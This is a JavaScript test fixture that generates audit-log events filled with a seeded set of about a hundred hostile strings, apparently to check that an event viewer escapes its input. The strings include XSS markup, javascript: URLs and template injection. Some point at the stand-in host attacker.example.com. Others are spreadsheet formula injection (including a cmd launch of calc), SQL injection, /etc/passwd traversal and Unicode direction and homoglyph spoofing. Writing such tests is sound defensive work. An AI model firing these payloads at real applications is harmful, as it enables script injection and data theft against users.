// Events that try to be more than text: scripts, markup, signs that turn the direction of writing or
// take no room, formulas, and texts of every size an event may have. Seeded, so a failure repeats.

/** xorshift32: the same numbers for the same seed, everywhere. */
function random(seed) {
  let state = seed >>> 0 || 1
  return (below) => {
    state ^= state << 13
    state ^= state >>> 17
    state ^= state << 5
    return (state >>> 0) % below
  }
}

const HURT = 'window.hurt=(window.hurt||0)+1'
const AWAY = 'http://attacker.example.com'

const MARKUP = [
  `<script>${HURT}</script>`,
  `<img src=x onerror="${HURT}">`,
  `<img src="${AWAY}/pixel.gif">`,
  `<svg onload="${HURT}"><circle/></svg>`,
  `<iframe src="javascript:${HURT}"></iframe>`,
  `<a href="javascript:${HURT}">click</a>`,
  `<body onload=${HURT}>`,
  `<style>@import "${AWAY}/a.css";*{display:none}</style>`,
  `<link rel=stylesheet href="${AWAY}/b.css">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<form action="${AWAY}"><input name=password autofocus onfocus="${HURT}"></form>`,
  `<base href="${AWAY}/">`,
  `<object data="${AWAY}/x.swf"></object>`,
  `<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror='${HURT}'>">`,
  `"><script>${HURT}</script>`,
  `'-${HURT}-'`,
  `\`\${${HURT}}\``,
  `{{constructor.constructor("${HURT}")()}}`,
  `{{t('x')}} $t(Overview) %s %n`,
  `</title></textarea></script><script>${HURT}</script>`,
  `<!--<script>${HURT}//-->`,
  `<![CDATA[<script>${HURT}</script>]]>`,
  `&lt;script&gt; &amp;amp; &#x3C;b&#x3E; &copy`,
  `javascript:${HURT}`,
  `data:text/html,<script>${HURT}</script>`,
  `[link](javascript:${HURT}) ![img](${AWAY}/c.png) **bold** \`code\``,
  `__proto__`,
  `constructor`,
  `toString`,
  `<template><script>${HURT}</script></template>`,
]
const DIRECTION = ['\u202Egnp.exe', 'user\u202E\u2066moc.live\u2069\u2066', 'a\u2069\u2069\u202Eb', '\u2067\u2067\u2067admin', '\u202D\u202E\u202Dx', 'שלום עולם', 'مرحبا 123 bob', '\u200Fadmin\u200F', 'x\u202C\u202C\u202Cy', '\u061Croot']
const INVISIBLE = ['ad\u200Bmin', '\u200D\u200D\u200D', 'a\u00ADb\u2060c', '\uFEFFroot', 'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301', 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘', '\u3164', '🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}', '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}', 'аdmin (cyrillic)']
const FORMULA = ['=HYPERLINK("http://attacker.example.com","click")', '=cmd|\' /C calc\'!A0', '+1+1', '-2+3', '@SUM(1+1)', '\t=1+1', '=1+1";"=2', ';=1', '|calc', '%0A=1+1']
const SHAPES = ['a\tb', 'line\nline\nline\nline\nline', '\\"quoted\\"', '\'; DROP TABLE events; --', '../../../../etc/passwd', 'actor:x OR action:*', ')(', '"', '\\', '*', 'null', 'undefined', 'NaN', '0', 'true', ' leading', 'trailing ', ',,,', '#fragment', '?a=b&c=d', '%00%0d%0a', 'A'.repeat(300), '<b>'.repeat(60), '\u{1F600}'.repeat(80), 'http://attacker.example.com/?q=1', 'ann_0123456789', 'LOG-2026-0000001', '::1', 'a'.repeat(120) + '\u202E' + 'b'.repeat(20), '<', '>', '&', '--', '/*', '*/', '${7*7}', '<%= 7*7 %>', '#{7*7}', '𝒜𝒹𝓂𝒾𝓃', 'İıſK']

/** A hundred texts. */
export const PAYLOADS = [...MARKUP, ...DIRECTION, ...INVISIBLE, ...FORMULA, ...SHAPES]

/**
 * Events with a payload in every field that takes a text, so that each payload stands in each field
 * once: field number `f` of event number `e` holds payload `e + f` of a seeded order.
 */
export function hostileEvents(seed, tag) {
  const next = random(seed)
  const order = PAYLOADS.map((payload) => [next(1 << 30), payload]).sort(([one], [other]) => one - other).map(([, payload]) => payload)
  const short = (text, characters) => [...text].slice(0, characters).join('')
  return order.map((_, place) => {
    let field = 0
    const text = (characters = 200) => short(order[(place + field++) % order.length], characters)
    // What names a kind of thing takes fewer signs; what may not stand there is left out.
    return {
      action: `hostile.${tag}`,
      message: text(),
      severity: place % 10 ? 'low' : 'critical',
      actor: { type: 'user', id: text(100), name: text(), email: text(100), roles: [text(60)], groups: [text(60)] },
      on_behalf_of: { type: 'user', id: text(100), name: text() },
      targets: [
        { type: text(60), id: text(100), name: text() },
        { type: text(60), id: text(100), name: text() },
      ],
      changes: [
        { path: text(60), label: text(60), old: text(), new: text() },
        { path: text(60), label: text(60), old: { [text(40)]: text() }, new: [text(), text()] },
        { path: text(60), type: 'money', old: text(40), new: text(40) },
        { path: text(60), type: 'date', old: text(40), new: text(40) },
      ],
      outcome: { result: 'failure', code: text(60), reason: text() },
      client: { user_agent: text() },
      source: { app: text(60), component: text(60), version: text(40), environment: text(40) },
      session_id: text(100),
      request_id: text(100),
      correlation_id: text(100),
      parent_id: text(100),
      labels: [text(60)],
      metadata: { [text(40)]: text(), nested: { [text(40)]: [text()] } },
    }
  })
}

/** An event as large as events may be: a message of nearly 60 KiB. */
export function longEvent(tag) {
  return { action: `long.${tag}`, actor: { id: 'u-long', name: 'Long' }, targets: [{ type: 'customer', id: `L-${tag}`, name: 'Long Corp.' }], message: `${'All work and no play. '.repeat(2700)}the end` }
}

/** An event with 200 changes, one of them long. */
export function wideEvent(tag) {
  return {
    action: `wide.${tag}`,
    actor: { id: 'u-wide', name: 'Wide' },
    targets: [{ type: 'customer', id: `W-${tag}`, name: 'Wide Corp.' }],
    changes: Array.from({ length: 200 }, (_, place) => ({ path: `field_${place}`, label: `Field ${place}`, type: 'string', old: `${place}`, new: `value ${place} `.repeat(place === 7 ? 3000 : 2) })),
  }
}
